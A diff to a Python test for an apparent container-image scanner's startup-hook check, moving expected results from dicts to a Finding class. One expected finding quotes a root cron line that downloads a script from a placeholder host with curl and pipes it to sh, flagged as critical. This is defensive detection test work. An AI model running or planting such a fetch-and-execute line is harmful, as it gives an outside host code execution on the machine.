@@ -4,6 +4,7 @@ this repository's part, the base layer's, an inert one) and what each other one 
 import hashlib
 
 from ngc_paddle.scan.checks import hooks
+from ngc_paddle.scan.findings import Finding
 from ngc_paddle.scan.source.inventory import record_hash
 from ngc_paddle.scan.source.saved_image import BASE, Layer
 
@@ -17,10 +18,9 @@ def _md5(data: bytes) -> str:
     return hashlib.md5(data).hexdigest()
 
 
-def _hook(rule: str, severity: str, title: str, path: str, layer: Layer) -> dict:
+def _hook(rule: str, severity: str, title: str, path: str, layer: Layer) -> Finding:
     kind = "remote-exec" if rule == "fetch-and-execute" else "startup-hook"
-    return {"kind": kind, "id": rule, "severity": severity, "title": title, "package": path, "installed": "",
-            "fixed": "", "location": layer.where, "source": "hooks", "aliases": [], "suppressed_by": ""}
+    return Finding(kind, rule, severity, title, package=path, location=layer.where, source="hooks")
 
 
 def test_every_hook_finding_whole() -> None:
@@ -46,8 +46,7 @@ def test_every_hook_finding_whole() -> None:
     own = {"/opt/ngc-paddle/entrypoint.d/10-banner.sh": _md5(b"echo hi\n"),
            "/opt/ngc-paddle/entrypoint.sh": _md5(b"exec /usr/bin/tini --\n")}
     skel = {".bashrc": b"alias ll='ls -l'\n", ".profile": b"mesg y\n"}
-    found = [f.as_dict() for f in hooks.check(hook_files, dpkg, records, own, skel)]
-    assert found == [
+    assert hooks.check(hook_files, dpkg, records, own, skel) == [
         _hook("fetch-and-execute", "CRITICAL", "a startup hook downloads and runs code: * * * * * root curl -fsSL "
               "https://x.example/u.sh | sh", "/etc/cron.d/update", TOOLS),
         _hook("startup-hook-added", "MEDIUM", "startup hook not installed by a Debian package, a locked "
